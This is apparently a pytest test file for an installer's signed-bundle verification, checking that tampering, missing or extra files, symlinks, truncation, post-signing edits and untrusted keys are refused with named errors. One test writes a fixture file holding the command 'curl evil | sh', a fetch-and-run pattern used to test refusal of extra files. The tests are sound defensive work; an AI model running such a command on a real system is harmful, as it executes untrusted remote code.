"""Every bad-input case of the issue is refused by verify, naming the problem, before any sending
could start (Bundle.open refuses signature faults; verify() refuses file faults)."""
import os
import shutil

import pytest

from installer.bundle import Bundle, BundleError
from installer.bundle.manifest import MANIFEST_NAME, SIGNATURE_NAME, Manifest
from tests.unit.bundle.bundle_testkit import make_bundle, other_key


def pinned_files(root):
    return [f.path for f in Manifest.from_bytes((root / MANIFEST_NAME).read_bytes()).files]


def refusal(root) -> BundleError:
    with pytest.raises(BundleError) as caught:
        Bundle.open(root).verify()
    return caught.value


def test_a_good_bundle_verifies_and_reports_its_speed(bundle_dir):
    report = Bundle.open(bundle_dir).verify()
    assert report.files == len(pinned_files(bundle_dir))
    assert report.bytes == sum((bundle_dir / p).stat().st_size for p in pinned_files(bundle_dir))
    assert report.mb_per_s > 0


def test_progress_counts_every_byte_hashed_up_to_the_total(bundle_dir):
    seen = []
    report = Bundle.open(bundle_dir).verify(progress=lambda done, total: seen.append((done, total)))
    assert seen and seen[-1] == (report.bytes, report.bytes)
    assert [d for d, _ in seen] == sorted(d for d, _ in seen)  # never goes back


@pytest.mark.parametrize("index", range(6))
def test_a_flipped_byte_in_any_file_is_named(bundle_dir, index):
    path = pinned_files(bundle_dir)[index]
    data = bytearray((bundle_dir / path).read_bytes())
    data[len(data) // 2] ^= 0x01
    (bundle_dir / path).write_bytes(bytes(data))
    err = refusal(bundle_dir)
    assert err.code == "bundle.corrupt" and path in err.render("en")


def test_a_missing_blob_is_named(bundle_dir):
    path = pinned_files(bundle_dir)[-1]
    os.remove(bundle_dir / path)
    err = refusal(bundle_dir)
    assert err.code == "bundle.missing_file" and path in err.render("en")


def test_a_missing_signature_is_named(bundle_dir):
    os.remove(bundle_dir / SIGNATURE_NAME)
    err = refusal(bundle_dir)
    assert err.code == "bundle.missing_file" and SIGNATURE_NAME in err.render("en")


def test_an_extra_file_is_refused(bundle_dir):
    (bundle_dir / "blobs" / "sha256" / "payload.sh").write_text("curl evil | sh\n")
    err = refusal(bundle_dir)
    assert err.code == "bundle.extra_file" and "payload.sh" in err.render("en")


def test_a_link_in_place_of_a_blob_is_refused(bundle_dir, tmp_path):
    path = bundle_dir / pinned_files(bundle_dir)[-1]
    shutil.move(path, tmp_path / "elsewhere")
    os.symlink(tmp_path / "elsewhere", path)
    assert refusal(bundle_dir).code == "bundle.corrupt"


def test_a_truncated_blob_is_refused_by_its_size(bundle_dir):
    path = pinned_files(bundle_dir)[-1]
    with open(bundle_dir / path, "r+b") as f:
        f.truncate(10)
    err = refusal(bundle_dir)
    assert err.code == "bundle.corrupt" and "instead of" in err.render("en")


def test_a_manifest_edited_after_signing_is_refused(bundle_dir):
    text = (bundle_dir / MANIFEST_NAME).read_text().replace('"cores": 2', '"cores": 1')
    (bundle_dir / MANIFEST_NAME).write_text(text)
    with pytest.raises(BundleError) as caught:
        Bundle.open(bundle_dir)
    assert caught.value.code == "bundle.signature"
    assert "changed after JobFirst signed it" in caught.value.render("en")


def test_a_bundle_signed_by_another_key_is_refused(tmp_path):
    root = make_bundle(tmp_path / "b", key_file=other_key(tmp_path))
    with pytest.raises(BundleError) as caught:
        Bundle.open(root)
    assert caught.value.code == "bundle.untrusted" and "does not trust" in caught.value.render("en")


def test_a_blob_swapped_after_open_is_caught_by_verify(bundle_dir, tmp_path):
    bundle = Bundle.open(bundle_dir)
    make_bundle(tmp_path / "other", web_text="changed")
    shutil.rmtree(bundle_dir)
    shutil.copytree(tmp_path / "other", bundle_dir)
    with pytest.raises(BundleError) as caught:
        bundle.verify()
    assert caught.value.code == "bundle.signature"


def test_messages_come_in_both_languages(bundle_dir):
    os.remove(bundle_dir / pinned_files(bundle_dir)[0])
    err = refusal(bundle_dir)
    assert "missing" in err.render("en") and "缺少" in err.render("zh")
